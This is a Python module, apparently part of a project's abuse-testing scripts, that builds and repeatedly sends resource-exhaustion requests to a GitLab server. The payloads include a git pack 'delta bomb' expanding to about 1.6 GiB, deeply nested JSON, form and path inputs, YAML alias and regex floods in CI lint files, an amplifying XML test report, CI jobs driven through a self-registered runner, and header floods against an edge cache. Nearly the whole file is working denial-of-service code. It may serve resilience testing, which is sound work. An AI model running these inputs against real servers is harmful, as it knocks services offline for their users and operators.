"""Single requests that are expensive to answer. The size of each grows with a number, in the worst known shape."""

import base64
import gzip
import hashlib
import io
import secrets
import struct
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from itertools import count
from typing import Any
from urllib.parse import quote

import aiohttp
import attrs
import orjson

from scripts.abuse.environment import AttackTarget, read_all, repeat, session
from scripts.harness.contents import archive, commit_values, multipart


@attrs.frozen
class Request:
    """One request; it is anonymous unless its headers have credentials. `worked_on` are the bytes that were sent
    before and that the server processes for this request."""

    method: str
    url: str
    body: bytes = b""
    headers: Mapping[str, str] = attrs.field(factory=dict)
    worked_on: int = 0

    @property
    def size(self) -> int:
        """The number of bytes that the server has to process."""
        return len(self.url) + len(self.body) + sum(map(len, self.headers.values())) + self.worked_on

    async def send(self, http: aiohttp.ClientSession) -> str:
        """Send the request and read the answer; return its status."""
        async with http.request(
            self.method,
            self.url,
            data=io.BytesIO(self.body) if self.body else None,
            headers=({"Content-Type": "application/octet-stream"} if self.body else {}) | dict(self.headers),
            allow_redirects=False,
        ) as answer:
            return await read_all(answer)


@attrs.frozen
class Job:
    """A running job, and the id of its pipeline."""

    id: int
    token: str
    pipeline: int
    api: str

    def log(self, text: bytes) -> Request:
        """Return the request that sends the whole log at once."""
        headers = {"JOB-TOKEN": self.token, "Content-Range": f"0-{len(text) - 1}"}
        return Request("PATCH", f"{self.api}/jobs/{self.id}/trace", text, headers)

    def finish(self) -> Request:
        """Return the request that reports success."""
        body = orjson.dumps({"token": self.token, "state": "success"})
        return Request("PUT", f"{self.api}/jobs/{self.id}", body, {"Content-Type": "application/json"})

    def upload(self, files: Mapping[str, str], report: str = "") -> Request:
        """Return the request that uploads an archive of files, or a report, which is one file."""
        content, query = archive(files), ""
        if report:
            content = gzip.compress("".join(files.values()).encode())
            query = f"?artifact_type={report}&artifact_format=gzip"
        body, content_type = multipart(content)
        headers = {"JOB-TOKEN": self.token, "Content-Type": content_type}
        return Request("POST", f"{self.api}/jobs/{self.id}/artifacts{query}", body, headers)


async def running_job(target: AttackTarget, http: aiohttp.ClientSession, file: str) -> Job:
    """Start a pipeline with that CI file; return its only job when it runs."""
    api, project = f"{target.api_url}/api/v4", target.project(target.mine)
    branch = f"job-{secrets.token_hex(4)}"  # other attackers have created branches before
    commit = commit_values(branch, {".gitlab-ci.yml": file}, start_branch="main")
    async with http.post(f"{project}/repository/commits", json=commit, headers=target.as_attacker) as answer:
        answer.raise_for_status()
    async with http.get(project, headers=target.as_attacker) as answer:
        project_id = (await answer.json())["id"]
    runner = {"runner_type": "project_type", "project_id": project_id, "run_untagged": True}
    async with http.post(f"{api}/user/runners", json=runner, headers=target.as_attacker) as answer:
        token = (await answer.json())["token"]
    while True:
        async with http.post(f"{api}/jobs/request", json={"token": token}) as answer:
            payload = await answer.json() if answer.status == 201 else None
        if payload and payload["git_info"]["ref"] == branch:
            variables = {variable["key"]: variable["value"] for variable in payload["variables"]}
            return Job(payload["id"], payload["token"], int(variables["CI_PIPELINE_ID"]), api)


# --- packs that git does not make (gitformat-pack(5)) ---------------------------------------------------------------

_BLOB, _OFS_DELTA = 3, 6
_COPIED = 0xFFFFFF  # the largest size that one instruction of a delta can copy


def pkt_line(line: bytes) -> bytes:
    """Return a pkt-line."""
    return f"{len(line) + 4:04x}".encode() + line


def push_body(ref: str, pack: bytes) -> bytes:
    """Return the body of a push that creates `ref` at an object that does not exist."""
    command = f"{'0' * 40} {'1' * 40} {ref}".encode() + b"\0 report-status\n"
    return pkt_line(command) + b"0000" + pack


def delta_bomb(copies: int = 100) -> bytes:
    """Return a pack with a blob of 16 MiB in a few bytes, and a delta that copies it; a hundred copies are 1.6 GiB
    when unpacked."""
    base = bytes(_COPIED)
    compressed = _deflated(base)
    instructions = b"\xf0\xff\xff\xff" * copies  # offset 0, three bytes of size
    delta = _delta_size(len(base)) + _delta_size(_COPIED * copies) + instructions
    first = _heading(_BLOB, len(base)) + compressed
    second = _heading(_OFS_DELTA, len(delta)) + _offset(len(first)) + _deflated(delta)
    body = b"PACK" + struct.pack(">II", 2, 2) + first + second
    return body + hashlib.sha1(body, usedforsecurity=False).digest()


def _deflated(data: bytes) -> bytes:
    return zlib.compress(data, 9)


def _heading(kind: int, size: int) -> bytes:
    first, size = (kind << 4) | (size & 0x0F), size >> 4
    heading = bytearray()
    while size:
        heading.append(first | 0x80)
        first, size = size & 0x7F, size >> 7
    return bytes([*heading, first])


def _offset(distance: int) -> bytes:
    reversed_digits = [distance & 0x7F]
    while distance := distance >> 7:
        distance -= 1
        reversed_digits.append(0x80 | (distance & 0x7F))
    return bytes(reversed(reversed_digits))


def _delta_size(size: int) -> bytes:
    digits = bytearray()
    while size > 0x7F:
        digits.append(0x80 | (size & 0x7F))
        size >>= 7
    return bytes([*digits, size])


# --- the inputs -----------------------------------------------------------------------------------------------------

#: One job that leaves `files`.
ARTIFACTS_CONFIG = "job:\n  script: ['true']\n  artifacts:\n    paths: [files]\n"
_REPORT = "job:\n  script: ['true']\n  artifacts:\n    reports:\n      {}\n"
#: Numbers for expressions that are new each time, since the server caches compiled ones.
_expressions = count()
_BOUNDARY = "abuse"


#: Return the request for a size. Some create a job or a file of a project for it first.
Make = Callable[[AttackTarget, aiohttp.ClientSession, int], Awaitable[Request]]


@attrs.frozen
class Input:
    """An expensive input. `largest` is the number that the attack uses; a quarter and a half of it show how the cost
    grows. A request that works only `once` is created anew each time, for example because it ends a job."""

    largest: int
    make: Make
    once: bool = False


def _api(target: AttackTarget, path: str) -> str:
    return f"{target.api_url}/api/v4{path}"


def _json(target: AttackTarget, path: str, value: Any, *, signed_in: bool = False) -> Request:
    headers = {"Content-Type": "application/json"} | (target.as_attacker if signed_in else {})
    url = path if path.startswith("http") else _api(target, path)
    return Request("POST", url, orjson.dumps(value), headers)


def _simple(largest: int, make: Callable[[AttackTarget, int], Request]) -> Input:
    async def made(target: AttackTarget, _: aiohttp.ClientSession, number: int) -> Request:
        return make(target, number)

    return Input(largest, made)


def _of_strangers(largest: int, path: str, value: Callable[[int], Any]) -> Input:
    """Return an input that is sent as JSON without a token."""
    return _simple(largest, lambda target, number: _json(target, path, value(number)))


def _of_mine(largest: int, path: str, value: Callable[[int], Any]) -> Input:
    """Return an input that an Owner sends as JSON to a path below her project."""
    return _simple(
        largest, lambda target, n: _json(target, target.project(target.mine) + path, value(n), signed_in=True)
    )


def _of_form(largest: int, path: str, text: Callable[[int], str]) -> Input:
    headers = {"Content-Type": "application/x-www-form-urlencoded"}
    return _simple(
        largest, lambda target, n: Request("POST", target.api_url + path, text(n).encode(), headers)
    )


def _get(
    largest: int,
    path: Callable[[AttackTarget, int], str],
    headers: Callable[[int], Mapping[str, str]] = lambda _: {},
) -> Input:
    return _simple(
        largest,
        lambda target, n: Request("GET", path(target, n), headers={**target.as_attacker, **headers(n)}),
    )


def _lint(largest: int, file: Callable[[int], str]) -> Input:
    return _of_mine(largest, "/ci/lint", lambda number: {"content": file(number)})


def _multipart(target: AttackTarget, number: int) -> Request:
    part = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\nb\r\n'
    headers = {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}
    body = part * number + f"--{_BOUNDARY}--\r\n"
    return Request("POST", f"{target.api_url}/-/sign_in", body.encode(), headers)


def _git(target: AttackTarget, service: str, body: bytes) -> Request:
    credentials = base64.b64encode(f"attacker:{target.attacker}".encode()).decode()
    content_type = f"application/x-git-{service}-request"
    headers = {"Authorization": f"Basic {credentials}", "Content-Type": content_type}
    return Request("POST", f"{target.api_url}/{target.mine}.git/git-{service}", body, headers)


def _push(target: AttackTarget, number: int) -> Request:
    commands = [f"{'0' * 40} {index:040x} refs/heads/{'a/' * 20}{index}" for index in range(1, number + 1)]
    first, *others = (command.encode() for command in commands)
    lines = [first + b"\0 report-status\n", *(other + b"\n" for other in others)]
    return _git(target, "receive-pack", b"".join(map(pkt_line, lines)) + b"0000")


def _fetch(target: AttackTarget, number: int) -> Request:
    lines = b"".join(pkt_line(f"want {index:040x}\n".encode()) for index in range(1, number + 1))
    return _git(target, "upload-pack", lines + b"0000" + pkt_line(b"done\n"))


def _lfs(target: AttackTarget, number: int) -> Request:
    request = _git(target, "upload-pack", b"")
    objects = [{"oid": f"{index:064x}", "size": 1} for index in range(number)]
    body = orjson.dumps({"operation": "download", "objects": objects})
    headers = {**request.headers, "Content-Type": "application/vnd.git-lfs+json"}
    return Request("POST", f"{target.api_url}/{target.mine}.git/info/lfs/objects/batch", body, headers)


async def _masked_log(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    """Create masked variables whose values begin alike; return the request that sends a log of their beginnings."""
    project = target.project(target.mine)
    for key, value in (("SHORT", "b" * 8), ("LONG", "a" * 9990 + "0" * 8)):
        body = {"key": key, "value": value, "masked": True}
        async with http.post(f"{project}/variables", json=body, headers=target.as_attacker) as answer:
            await answer.read()  # 400 if the variable exists
    job = await running_job(target, http, "job:\n  script: ['true']\n")
    return job.log(b"a" * number)


async def _coverage(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    """Send a log that is one line of digits, in which the server searches the last match when the job ends; return the
    request that ends the job."""
    job = await running_job(target, http, "job:\n  coverage: '/\\d/'\n  script: ['true']\n")
    await job.log(b"1" * number).send(http)
    return attrs.evolve(job.finish(), worked_on=number)


async def _test_report(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    """Upload a report with a long default value of an attribute, which would apply to each test case; return the
    request for the report."""
    job = await running_job(target, http, _REPORT.format("junit: report.xml"))
    document = f'<!DOCTYPE testsuites [<!ATTLIST testcase classname CDATA "{"a" * 100 * number}">]>'
    cases = '<testcase name="a"/>' * number
    document += f"<testsuites><testsuite>{cases}</testsuite></testsuites>"
    await job.upload({"report.xml": document}, "junit").send(http)
    await job.finish().send(http)
    return _report_of(target, job, len(document))


def _report_of(target: AttackTarget, job: Job, worked_on: int) -> Request:
    url = f"{target.project(target.mine)}/pipelines/{job.pipeline}/test_report"
    return Request("GET", url, b"", target.as_attacker, worked_on)


async def _names_of_jobs(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    """Create a job with a name in which the expression for parallel jobs (`name 1/2`) is tried at each character;
    return the request for its test report."""
    file = _REPORT.format("junit: report.xml").replace("job", f"'{'1 ' * (number // 2)}x'", 1)
    job = await running_job(target, http, file)
    await job.upload({"report.xml": "<testsuites/>"}, "junit").send(http)
    await job.finish().send(http)
    return _report_of(target, job, number)


async def _artifact_members(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    """Upload an archive of very many files; return an anonymous request for the page of one folder of it."""
    job = await running_job(target, http, ARTIFACTS_CONFIG)
    upload = job.upload({f"files/{index:06}.txt": "x" for index in range(number)})
    await upload.send(http)
    await job.finish().send(http)
    url = f"{target.api_url}/{target.mine}/-/jobs/{job.id}/artifacts/browse/files"
    return Request("GET", url, worked_on=upload.size)


async def _dotenv(target: AttackTarget, http: aiohttp.ClientSession, number: int) -> Request:
    job = await running_job(target, http, _REPORT.format("dotenv: build.env"))
    return job.upload({"build.env": "".join(f"A{index}=b\n" for index in range(number))}, "dotenv")


def _edge_file(target: AttackTarget, _: int = 0) -> str:
    return f"{target.edge_url}/{target.public}/-/raw/main/src/1/1.txt"


#: Inputs by their name, which the command line and docs/security.md use.
INPUTS: dict[str, Input] = {
    "list-items": _of_strangers(50_000, "/runners", lambda n: {"token": "x", "tag_list": [{}] * n}),
    "list-objects": _of_mine(
        50_000, "/repository/commits", lambda n: {"branch": "a", "commit_message": "b", "actions": [{}] * n}
    ),
    "comma-separated": _of_mine(
        50_000, "/invitations", lambda n: {"access_level": 10, "user_id": "x," * n + "x"}
    ),
    "form-keys": _of_form(20_000, "/api/v4/runners", lambda n: "&".join(f"a{i}=b" for i in range(n))),
    "form-lists": _of_form(20_000, "/api/v4/runners", lambda n: "&".join(["tag_list[]=b"] * n)),
    "form-nesting": _of_form(20_000, "/api/v4/runners", lambda n: f"info{'[a]' * n}=b"),
    "json-nesting": _simple(
        400_000,
        lambda target, n: Request(
            "POST", _api(target, "/runners"), b"[" * n, {"Content-Type": "application/json"}
        ),
    ),
    "json-keys": _of_strangers(20_000, "/runners", lambda n: {f"a{i}": 1 for i in range(n)}),
    "multipart-parts": _simple(1_000, _multipart),
    "deep-path": _get(3_800, lambda target, n: f"{target.api_url}{'/a' * n}"),
    "deep-api-path": _get(3_800, lambda target, n: _api(target, f"/projects/1/repository/tree{'/a' * n}")),
    "query-fields": _get(
        1_900, lambda target, n: _api(target, "/projects?") + "&".join(f"a{i % 10}=" for i in range(n))
    ),
    "cookies": _get(
        1_600,
        lambda target, _: f"{target.api_url}/-/sign_in",
        lambda n: {"Cookie": "; ".join(f"a{i % 10}=" for i in range(n))},
    ),
    "content-type": _simple(
        1_900,
        lambda target, n: Request(
            "POST", _api(target, "/runners"), b"{}", {"Content-Type": "application/json" + ';a="' * n}
        ),
    ),
    "tree-path": _get(
        3_000, lambda target, n: f"{target.project(target.public)}/repository/tree?path={'a/' * n}a"
    ),
    "ref-name": _get(
        3_000, lambda target, n: f"{target.project(target.public)}/repository/commits/{quote('a/' * n + 'a')}"
    ),
    "raw-path": _get(3_000, lambda target, n: f"{target.api_url}/{target.public}/-/raw/main/{'a/' * n}a"),
    "push-commands": _simple(20_000, _push),
    "fetch-wants": _simple(40_000, _fetch),
    "lfs-objects": _simple(2_500, _lfs),
    "deep-files": _of_mine(
        1_000,
        "/repository/commits",
        lambda n: commit_values("main", {f"{i}/{'a/' * 1_000}a": "" for i in range(n)}),
    ),
    "commit-message": _of_mine(
        4_000_000,
        "/repository/commits",
        lambda n: commit_values("main", {"README.md": "a"}, action="update", message="a\n" * (n // 2)),
    ),
    "masked-log": Input(256 * 1024, _masked_log, once=True),
    "coverage": Input(128 * 1024, _coverage, once=True),
    "test-report": Input(3_000, _test_report, once=True),
    "job-name": Input(240, _names_of_jobs, once=True),
    "artifact-browsing": Input(60_000, _artifact_members),
    "dotenv": Input(20_000, _dotenv, once=True),
    "regular-expressions": _lint(
        12,
        lambda n: (
            "a:\n  script: [b]\n  only: ["
            + ", ".join(f"'/\\pL{{400}}{next(_expressions)}/'" for _ in range(n))
            + "]\n"
        ),
    ),
    "yaml-aliases": _lint(
        20_000, lambda n: "a: &a {script: [b]}\nb:\n  script: [" + ", ".join(["*a"] * n) + "]\n"
    ),
    "yaml-keys": _lint(
        10_000, lambda n: "a:\n  script: [b]\n  variables:\n" + "".join(f"    V{i}: b\n" for i in range(n))
    ),
    "interpolation": _lint(
        10_000,
        lambda n: (
            "spec: {inputs: {a: {default: b}}}\n---\na:\n  script:\n"
            + "".join(f"    - $[[ inputs.a | truncate(0,{i}) ]]\n" for i in range(n))
        ),
    ),
    "rules": _lint(10_000, lambda n: "a:\n  script: [b]\n  rules:\n    - if: '" + "$A || " * n + "$B'\n"),
    "matrix": _lint(
        400,
        lambda n: (
            "a:\n  script: [b]\n  parallel:\n    matrix:\n      - A: ["
            + ", ".join(map(str, range(n)))
            + "]\n"
        ),
    ),
    "cron": _of_mine(
        20_000,
        "/pipeline_schedules",
        lambda n: {"description": "a", "ref": "main", "cron": ",".join(["*/1"] * n) + " * * * *"},
    ),
    "addresses": _of_mine(
        20_000, "/invitations", lambda n: {"access_level": 10, "email": "a@b," * n + "a.a.a.a.a@b"}
    ),
    "mirror-url": _of_mine(
        400_000, "/remote_mirrors", lambda n: {"url": "https://" + "a:" * (n // 2) + "@example.org/a.git"}
    ),
    "edge-ranges": _get(
        1_600, _edge_file, lambda n: {"Range": "bytes=" + ",".join(f"{i * 2}-{i * 2}" for i in range(n // 2))}
    ),
    "edge-tags": _get(3_000, _edge_file, lambda n: {"If-None-Match": '"a' * n}),
    "edge-directives": _get(2_700, _edge_file, lambda n: {"Cache-Control": 'a="' * n}),
    "edge-codings": _get(2_700, _edge_file, lambda n: {"Accept-Encoding": "a;q=0," * (n // 2)}),
    "edge-path": _get(3_000, lambda target, n: f"{target.edge_url}/a{'/-/raw' * (n // 6)}/main/a"),
    "edge-query": _get(3_000, lambda target, n: f"{_edge_file(target)}?{'inline=true&' * (n // 12)}"),
}


async def send_input(name: str, target: AttackTarget, answers: "Counter[str]") -> None:
    """Have four clients send the largest form of the input again and again."""
    source = INPUTS[name]
    async with session() as http:
        prepared = None if source.once else await source.make(target, http, source.largest)

        async def send(_number: int) -> str:
            request = prepared or await source.make(target, http, source.largest)
            return await request.send(http)

        await repeat(4, send, answers)
